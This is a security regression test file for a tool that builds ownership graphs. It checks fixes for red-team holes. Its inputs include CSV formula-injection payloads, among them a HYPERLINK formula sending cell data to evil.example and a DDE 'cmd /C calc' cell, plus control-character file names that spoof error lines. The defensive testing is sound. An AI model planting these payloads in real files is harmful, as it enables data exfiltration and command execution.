"""Issue 14's red-team holes 4-6 and the extras, each reproduction a test that now holds.

4. A NUL or control character in a name poisoned later steps: GraphML export died ("All
   strings must be XML compatible") and the app's Data page raised on every render.
5. CSV formula injection through the app's "Attribution (CSV)" download.
6. A file name holding a newline printed a second, spoofed error line.
Extras: ``export --output`` followed a symlink and overwrote an existing file in place.
(Holes 1-2 are in tests/neo4j/test_console_attacks.py, hole 3 in the hostile corpus.)
"""

from __future__ import annotations

import csv
import io
import os
import shutil
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner

from ownergraph.cli import main
from ownergraph.graph.ids import document_id, party_id
from ownergraph.graph.model import Document, Link, ParsedDocument, Party, Provenance
from ownergraph.graph.store import Store
from ownergraph.graph.vocab import EdgeKind, NodeKind, Role, SourceFormat
from ownergraph.loaders import parse_path
from ownergraph.loaders.tabular import parse_dir
from ownergraph.queries import csvsafe
from ownergraph.queries.export import full_graph, to_graphml
from tests.security.stats import attack_class

ROOT = Path(__file__).resolve().parents[2]
DIAMOND = ROOT / "tests" / "fixtures" / "tabular" / "diamond"
BODS = ROOT / "tests" / "fixtures" / "bods" / "jenex-mvj_entity-owning-entity_bods-0.4.json"

#: Names with characters XML 1.0 cannot hold or that render two ways.
DIRTY_NAMES = [
    "Bob\x00Example",
    "JENEX\x00LIMITED\x1b[31m",
    "Evil\u202eCorp",
    "Zero\u200bWidth",
    "Bell\x07Corp",
    "FormFeed\x0cLtd",
]
#: Cells a spreadsheet would run (OWASP's examples and the red team's).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _old_store(path: Path, names: list[str]) -> Path:
    """A store as an older version could leave it: names never cleaned (records written
    directly, as a loader before graph.clean.clean_name did)."""
    did = document_id("f" * 16 + "dirty")
    prov = Provenance(path="dirty.json", format=SourceFormat.BODS, document_id=did)
    parties = [Party(party_id(name=n), n, NodeKind.ENTITY, provenance=(prov,)) for n in names]
    links = [
        Link(
            id=f"link-{i}",
            document_id=did,
            kind=EdgeKind.CONTROLS,
            controller_id=parties[i].id,
            controlled_id=parties[i + 1].id,
            role=Role.OTHER,
            provenance=(prov,),
        )
        for i in range(len(parties) - 1)
    ]
    doc = Document(id=did, path="dirty.json", format=SourceFormat.BODS, sha256="f" * 64)
    with Store(path) as s:
        s.load(ParsedDocument(document=doc, parties=tuple(parties), links=tuple(links)))
    return path


# --------------------------------------------------------------------------- hole 4


def test_control_characters_in_loaded_names_are_removed_with_a_finding(tmp_path: Path) -> None:
    """BODS and tabular names lose NUL / ESC / bidi / zero-width characters at the
    boundary; a finding names what was removed."""
    folder = tmp_path / "t"
    shutil.copytree(DIAMOND, folder)
    ent = folder / "entities.csv"
    ent.write_text(ent.read_text().replace("Bob Example", "Bob\x00Example\u202e", 1))
    doc = parse_dir(folder)
    assert "Bob Example" in [p.name for p in doc.parties]
    assert any(
        "NUL (U+0000)" in f.message and "RIGHT-TO-LEFT OVERRIDE" in f.message for f in doc.findings
    )
    attack_class("control characters in a tabular name")

    import json

    data = json.loads(BODS.read_text())
    data[0]["recordDetails"]["name"] = "JENEX\u0000LIMITED\u001b[31m"
    bods = tmp_path / "dirty.json"
    bods.write_text(json.dumps(data))
    parsed = parse_path(bods)
    names = [p.name for p in parsed.parties]
    assert "JENEX LIMITED" in names and not any("\x00" in n or "\x1b" in n for n in names)
    found = [f for f in parsed.findings if f.kind == "name_cleaned"]
    assert found and "NUL (U+0000)" in found[0].message and "ANSI" in found[0].message
    attack_class("control characters in a BODS name")


def test_graphml_export_of_an_old_dirty_store_never_dies(tmp_path: Path) -> None:
    store = _old_store(tmp_path / "old.db", DIRTY_NAMES)
    with Store(store) as s:
        data = to_graphml(full_graph(s))
    g = nx.read_graphml(io.BytesIO(data))
    assert g.number_of_nodes() == len(DIRTY_NAMES)
    names = {d.get("name") for _, d in g.nodes(data=True)}
    assert "Bob\ufffdExample" in names  # the character XML cannot hold is shown, not dropped
    res = CliRunner().invoke(main, ["export", "--format", "graphml", "--store", str(store)])
    assert res.exit_code == 0, res.output
    attack_class("XML-incompatible name in a GraphML export", len(DIRTY_NAMES))


def test_the_data_page_renders_on_a_dirty_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Data page builds each download when asked for ("Prepare ..."): asked for all of
    them on a dirty store, the page must render every one."""
    from streamlit.testing.v1 import AppTest

    store = _old_store(tmp_path / "old.db", DIRTY_NAMES + FORMULAS)
    monkeypatch.setenv("OWNERGRAPH_STORE", str(store))
    monkeypatch.delenv("OWNERGRAPH_NEO4J_URI", raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.switch_page(str(ROOT / "explorer" / "pages" / "data.py"))
    at.run()
    assert not at.get("download_button")  # nothing is built before it is asked for
    for key in ("dl_bods_prepare", "dl_graphml_prepare", "dl_csv_prepare", "dl_tables_prepare"):
        at.button(key=key).click()
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    labels = {b.label for b in at.get("download_button")}
    assert {"BODS (JSON)", "GraphML", "Attribution (CSV)"} <= labels, labels
    assert not at.error, [e.value for e in at.error]
    attack_class("dirty names on the app's Data page")


# --------------------------------------------------------------------------- hole 5


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell: str) -> None:
    """Read back as a spreadsheet would: the cell starts with ``'``, so it is text."""
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([cell, 1, -2.5, "Wynnefield Capital, Inc."])
    row = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row[0] == "'" + cell
    assert row[1:] == ["1", "-2.5", "Wynnefield Capital, Inc."]
    attack_class("CSV formula injection: " + repr(cell[:2]))


#: CSV writers whose files are a machine's import format, never opened in a spreadsheet,
#: and which therefore must NOT neutralise formulas: the importer reads every character of
#: a cell as data, so a leading apostrophe would become part of the name it imports
#: (``'=Acme`` in the database). docs/neo4j.md says these files are not for spreadsheets.
MACHINE_IMPORT_WRITERS = {
    "queries/neo4j_import.py": "neo4j-admin database import full (docs/neo4j.md)",
}


def test_every_csv_writer_goes_through_the_guard() -> None:
    """No module writes CSV with a bare ``csv.writer`` except the guard itself and the
    machine-import writers (:data:`MACHINE_IMPORT_WRITERS`, each named with its importer)."""
    offenders = []
    for d in ("graph", "loaders", "queries", "cli", "explorer"):  # benchmarks: synthetic data
        for f in sorted((ROOT / d).rglob("*.py")):
            if f.name == "csvsafe.py" or str(f.relative_to(ROOT)) in MACHINE_IMPORT_WRITERS:
                continue
            text = f.read_text()
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                if "neutralise" not in text and "csvsafe" not in text:
                    offenders.append(str(f.relative_to(ROOT)))
    assert offenders == []


def test_machine_import_files_keep_formula_like_names_as_written(tmp_path: Path) -> None:
    """The exempted writer's reason holds: neo4j-admin imports a formula-like name exactly
    as the store has it (no apostrophe), and the docs say the files are not for
    spreadsheets."""
    from ownergraph.queries.neo4j_import import neo4j_import_files

    store = _old_store(tmp_path / "old.db", FORMULAS)
    with Store(store) as s:
        files = neo4j_import_files(s)
    head = next(csv.reader(io.StringIO(files["parties_header.csv"].decode(), newline="")))
    rows = list(csv.reader(io.StringIO(files["parties.csv"].decode(), newline="")))
    names = [r[head.index("name")] for r in rows]
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in names, names
    assert names and all(n in FORMULAS for n in names), names  # none altered
    doc = (ROOT / "docs" / "neo4j.md").read_text()
    assert "not for spreadsheets" in doc
    assert set(MACHINE_IMPORT_WRITERS) == {"queries/neo4j_import.py"}


# --------------------------------------------------------------------------- hole 6


@pytest.mark.parametrize(
    "name",
    [
        "bad\nownergraph: error: spoofed line.json",
        "bad\rownergraph: error: spoofed line.json",
        "bad\x1b[2K\x1b[1Gownergraph: ok.json",
        "bad\u2028ownergraph: error: spoofed.json",
        "bad\u202eNOSJ.exe",
    ],
)
@pytest.mark.parametrize("exists", [True, False])
def test_an_error_line_is_one_line(tmp_path: Path, name: str, exists: bool) -> None:
    path = tmp_path / name
    if exists:
        path.write_text("{}")
    res = CliRunner().invoke(main, ["load", str(path), "--store", str(tmp_path / "s.db")])
    assert res.exit_code == 2, res.output
    err = res.stderr
    assert err.count("\n") == 1 and err.endswith("\n"), repr(err)
    assert err.startswith("ownergraph: error: ")
    for ch in "\r\x1b\u2028\u202e":
        assert ch not in err
    assert "Traceback" not in res.output
    attack_class("control characters in a file name: " + repr(name[3:5]))


def test_untrusted_text_in_a_subject_is_one_line(tmp_path: Path) -> None:
    store = _old_store(tmp_path / "old.db", ["Acme Ltd", "Beta Ltd"])
    res = CliRunner().invoke(
        main, ["who-controls", "x\nownergraph: error: spoofed", "--store", str(store)]
    )
    assert res.exit_code == 2
    assert res.stderr.count("\n") == 1, repr(res.stderr)
    attack_class("control characters in a question")


# --------------------------------------------------------------------------- extras


def _export(store: Path, out: Path, *extra: str) -> object:
    return CliRunner().invoke(
        main, ["export", "--format", "json", "--output", str(out), "--store", str(store), *extra]
    )


def test_export_never_overwrites_without_force_and_never_follows_a_symlink(
    tmp_path: Path,
) -> None:
    store = _old_store(tmp_path / "s.db", ["Acme Ltd", "Beta Ltd"])
    out = tmp_path / "out.json"
    out.write_text("precious")
    res = _export(store, out)
    assert res.exit_code == 2 and "--force" in res.stderr
    assert out.read_text() == "precious"
    attack_class("export over an existing file")

    res = _export(store, out, "--force")
    assert res.exit_code == 0, res.output
    assert out.read_text().startswith("{")

    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch")
    link = tmp_path / "link.json"
    link.symlink_to(victim)
    for extra in ((), ("--force",)):
        res = _export(store, link, *extra)
        assert res.exit_code == 2 and "symbolic link" in res.stderr, res.output
        assert victim.read_text() == "do not touch" and link.is_symlink()
    dangling = tmp_path / "dangling.json"
    dangling.symlink_to(tmp_path / "would-be-created.txt")
    assert _export(store, dangling).exit_code == 2
    assert not (tmp_path / "would-be-created.txt").exists()
    attack_class("export through a symbolic link", 3)


def test_an_interrupted_export_leaves_the_old_file_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bytes go to a temporary file renamed at the end: killed before the rename, the
    old output is intact and no partial file is left beside it."""
    store = _old_store(tmp_path / "s.db", ["Acme Ltd", "Beta Ltd"])
    out = tmp_path / "out.json"
    out.write_text("the previous export")

    def killed(*_a: object, **_k: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", killed)
    res = _export(store, out, "--force")
    assert res.exit_code == 130
    assert out.read_text() == "the previous export"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    attack_class("interrupted export")


def test_xml_names_are_cleaned_with_a_finding(tmp_path: Path) -> None:
    """A 13D XML reporting person's name with a bidi override, a zero-width space and a C1
    control (XML 1.0 cannot carry NUL; it can carry these) loads cleaned, with a finding."""
    import re

    src = ROOT / "tests" / "fixtures" / "sec13dg-xml"
    xml = (src / "one-nuclear-energy_nccs-new-circle_schedule13d_2026-09-30.xml").read_text()
    m = re.search(r"<((?:\w+:)?reportingPersonName)>([^<]+)</", xml)
    assert m, "fixture changed"
    dirty = m.group(2)[:3] + "&#x200B;" + m.group(2)[3:] + "&#x202E;&#x85;"
    path = tmp_path / "dirty13d.xml"
    path.write_text(xml[: m.start(2)] + dirty + xml[m.end(2) :])
    doc = parse_path(path)
    assert m.group(2).strip() in [p.name for p in doc.parties]
    found = [f for f in doc.findings if f.kind == "name_cleaned"]
    assert found and "RIGHT-TO-LEFT OVERRIDE" in found[0].message
    attack_class("bidi and zero-width characters in an XML name")


def test_gleif_names_are_cleaned_with_a_finding(tmp_path: Path) -> None:
    src = (
        ROOT
        / "tests"
        / "fixtures"
        / "gleif"
        / "hgnh-hengdian_gleif-rr-and-lei-records_api-json.json"
    )
    text = src.read_text()
    old = '"LegalName": "\\u6a2a\\u5e97'
    assert old in text, "fixture changed"
    path = tmp_path / "dirty-gleif.json"
    path.write_text(text.replace(old, '"LegalName": "\\u0000\\u202e\\u6a2a\\u5e97', 1))
    doc = parse_path(path)
    assert not any("\x00" in p.name or "\u202e" in p.name for p in doc.parties)
    found = [f for f in doc.findings if f.kind == "name_cleaned"]
    assert found and "NUL (U+0000)" in found[0].message
    attack_class("control characters in a GLEIF name")
